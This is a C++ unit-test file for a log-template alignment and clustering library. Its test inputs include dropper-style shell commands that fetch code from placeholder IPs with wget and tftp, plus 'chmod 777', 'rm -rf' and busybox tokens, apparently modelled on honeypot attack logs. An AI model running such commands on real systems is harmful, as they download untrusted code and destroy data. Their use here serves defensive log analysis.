#include <random>

#include "doctest.h"

#include "llt/alignment.hpp"
#include "llt/error.hpp"
#include "llt/tokenizer.hpp"
#include "oracles.hpp"

using namespace llt;

namespace {

std::vector<Slot> lits(std::initializer_list<const char*> xs) {
  std::vector<Slot> out;
  for (const char* x : xs) out.push_back(x ? Slot::lit(x) : Slot::hole());
  return out;
}

Template tmpl(std::initializer_list<const char*> xs) { return Template{lits(xs), 0}; }

std::vector<oracle::Sym> syms(const std::vector<Slot>& v) {
  std::vector<oracle::Sym> out;
  for (const auto& s : v) out.push_back({s.placeholder, s.literal});
  return out;
}

std::vector<Slot> random_slots(std::mt19937_64& rng, std::size_t max_len, bool holes) {
  static const char* alphabet[] = {"a", "b", "c", "d"};
  std::vector<Slot> out(rng() % (max_len + 1));
  for (auto& s : out) {
    if (holes && rng() % 5 == 0) s = Slot::hole();
    else s = Slot::lit(alphabet[rng() % 4]);
  }
  return out;
}

std::vector<std::string> token_strings(const TokenSeq& t) {
  std::vector<std::string> out;
  for (const auto& x : t) out.push_back(x.bytes);
  return out;
}

bool no_adjacent_holes(const Template& t) {
  for (std::size_t i = 1; i < t.slots.size(); ++i)
    if (t.slots[i].placeholder && t.slots[i - 1].placeholder) return false;
  return true;
}

}  // namespace

TEST_CASE("align examples") {
  CHECK(align(tmpl({"A", "B", "C"}), tmpl({"A", "B", "C"})) == tmpl({"A", "B", "C"}));
  CHECK(align(tmpl({"A", "B", "C"}), tmpl({"A", "X", "C"})) == tmpl({"A", nullptr, "C"}));
  CHECK(align(tmpl({"X"}), tmpl({"Y"})) == tmpl({nullptr}));
  CHECK(align(tmpl({}), tmpl({})).slots.empty());
  CHECK(align(tmpl({}), tmpl({"A"})) == tmpl({nullptr}));
  // Unmatched heads and tails collapse into boundary placeholders.
  CHECK(align(tmpl({"p", "A", "B"}), tmpl({"A", "B", "q", "r"})) == tmpl({nullptr, "A", "B", nullptr}));
  // A placeholder never becomes a literal, even against itself.
  CHECK(align(tmpl({"A", nullptr, "C"}), tmpl({"A", nullptr, "C"})) == tmpl({"A", nullptr, "C"}));
}

TEST_CASE("hand-computed local alignment scores") {
  auto al = local_alignment(lits({"A", "B", "C"}), lits({"A", "X", "C"}));
  CHECK(al.score == 1.0);
  // The score-1 windows tie; more matches wins, so A..C with one mismatch (score 1, 2 matches).
  CHECK(al.matches == 2);
  CHECK(local_alignment(lits({"A", "B", "C"}), lits({"A", "B", "C"})).score == 3.0);
  CHECK(local_alignment(lits({"X"}), lits({"Y"})).score == 0.0);
  CHECK(local_alignment(lits({nullptr}), lits({nullptr})).score == 0.0);
}

TEST_CASE("exhaustive oracle examples and bounds") {
  CHECK(exhaustive_align_oracle({}, lits({"a", "b"})) == 0.0);
  CHECK(exhaustive_align_oracle(lits({"a", "b", "c"}), lits({"a", "b", "c"})) == 3.0);
  Scoring s{2.5, -1, -0.5};
  CHECK(exhaustive_align_oracle(lits({"a", "b", "c"}), lits({"a", "b", "c"}), s) == 7.5);
  std::vector<Slot> seven(7, Slot::lit("a"));
  CHECK_THROWS_AS(exhaustive_align_oracle(seven, lits({"a"})), OracleTooLarge);
}

TEST_CASE("DP score equals both oracles on random short inputs") {
  std::mt19937_64 rng(99);
  const Scoring schemes[] = {{}, {2, -1, -1}, {1, 0, -0.5}, {3, -2, -1}};
  for (int iter = 0; iter < 600; ++iter) {
    const Scoring& s = schemes[iter % 4];
    auto a = random_slots(rng, 6, true), b = random_slots(rng, 6, true);
    auto al = local_alignment(a, b, s);
    CAPTURE(iter);
    CHECK(al.score == doctest::Approx(exhaustive_align_oracle(a, b, s)));
    CHECK(al.score == doctest::Approx(oracle::local_score_by_windows(syms(a), syms(b), s.match, s.mismatch, s.gap)));
  }
}

TEST_CASE("alignment columns cover both inputs in order") {
  std::mt19937_64 rng(5);
  for (int iter = 0; iter < 300; ++iter) {
    auto a = random_slots(rng, 12, true), b = random_slots(rng, 12, true);
    auto al = local_alignment(a, b);
    std::size_t na = 0, nb = 0, matches = 0;
    for (const auto& c : al.columns) {
      REQUIRE((c.a || c.b));
      if (c.a) CHECK(*c.a == na++);
      if (c.b) CHECK(*c.b == nb++);
      if (c.a && c.b && !a[*c.a].placeholder && !b[*c.b].placeholder && a[*c.a].literal == b[*c.b].literal) ++matches;
    }
    CHECK(na == a.size());
    CHECK(nb == b.size());
    CHECK(matches == al.matches);
    CHECK(al.a_begin <= al.a_end);
    CHECK(al.a_end <= a.size());
    CHECK(al.b_end <= b.size());
  }
}

TEST_CASE("align output is sound and collapsed") {
  std::mt19937_64 rng(12);
  for (int iter = 0; iter < 300; ++iter) {
    Template a{random_slots(rng, 10, false), 0}, b{random_slots(rng, 10, false), 0};
    auto t = align(a, b);
    CHECK(no_adjacent_holes(t));
    std::vector<std::string> la, lb;
    for (auto& s : a.slots) la.push_back(s.literal);
    for (auto& s : b.slots) lb.push_back(s.literal);
    CHECK(oracle::is_subsequence(t.literals(), la));
    CHECK(oracle::is_subsequence(t.literals(), lb));
    CHECK(t.literal_count() <= std::min(a.literal_count(), b.literal_count()));
    CHECK(align(a, a) == a);
  }
}

TEST_CASE("annotate_tree examples") {
  std::vector<TokenSeq> one = {tokenize("cd /tmp")};
  const Dendrogram single({"0"}, {});
  auto t1 = annotate_tree(single, one);
  REQUIRE(t1.size() == 1);
  CHECK(t1[0] == Template::from_tokens(one[0]));

  std::vector<TokenSeq> logs = {tokenize("cd /tmp; wget http://1.2.3.4/a"), tokenize("cd /tmp; tftp -g 5.6.7.8"),
                                tokenize("cd /tmp; echo hi > x")};
  const Dendrogram tree({"0", "1", "2"}, {{0, 1, 1.0, 2}, {2, 3, 2.0, 3}});
  auto ts = annotate_tree(tree, logs);
  REQUIRE(ts.size() == 5);
  const auto& root = ts[4];
  REQUIRE(root.slots.size() >= 3);
  CHECK(root.slots[0] == Slot::lit("cd"));
  CHECK(root.slots[1] == Slot::lit(" /"));
  CHECK(root.slots[2] == Slot::lit("tmp"));
  CHECK(ts[4].origin == 4);
  for (const auto& l : logs) CHECK(literals_are_subsequence(root, l));
}

TEST_CASE("templates are sound and degrade monotonically on random trees") {
  std::mt19937_64 rng(2024);
  static const char* words[] = {"cd", "/tmp", "wget", "busybox", "ECCHI", "chmod 777", "rm -rf", "./x"};
  for (int iter = 0; iter < 20; ++iter) {
    std::size_t n = 2 + rng() % 20;
    std::vector<TokenSeq> logs;
    std::vector<std::vector<double>> pts;
    for (std::size_t i = 0; i < n; ++i) {
      std::string s;
      std::size_t len = 3 + rng() % 6;
      for (std::size_t k = 0; k < len; ++k) s += std::string(words[rng() % 8]) + "; ";
      logs.push_back(tokenize(s));
      pts.push_back({static_cast<double>(rng() % 100), static_cast<double>(rng() % 100)});
    }
    auto tree = agglomerate(oracle::pairwise(pts));
    auto ts = annotate_tree(tree, logs);
    REQUIRE(ts.size() == tree.node_count());
    for (NodeId node = 0; node < tree.node_count(); ++node) {
      CHECK(no_adjacent_holes(ts[node]));
      for (auto leaf : tree.members(node))
        CHECK(oracle::is_subsequence(ts[node].literals(), token_strings(logs[leaf])));
      if (!tree.is_leaf(node)) {
        const auto& m = tree.merge_of(node);
        CHECK(ts[node].literal_count() <= ts[m.left].literal_count());
        CHECK(ts[node].literal_count() <= ts[m.right].literal_count());
      }
    }
  }
}

TEST_CASE("render and JSON") {
  auto t = tmpl({"cd", nullptr, "\n"});
  CHECK(render(t) == "cd«*»\\x0a");
  auto j = slots_to_json(t);
  CHECK(j.dump() == R"(["cd",null,"\\x0a"])");
  CHECK(template_from_json(j, 7) == t);
  CHECK(template_from_json(j, 7).origin == 7);
}

TEST_CASE("scoring validation") {
  CHECK_NOTHROW(Scoring{}.validate());
  CHECK_THROWS_AS((Scoring{0, -1, -1}.validate()), std::invalid_argument);
  CHECK_THROWS_AS((Scoring{1, 0.5, -1}.validate()), std::invalid_argument);
  CHECK_THROWS_AS((Scoring{1, -1, 1}.validate()), std::invalid_argument);
}
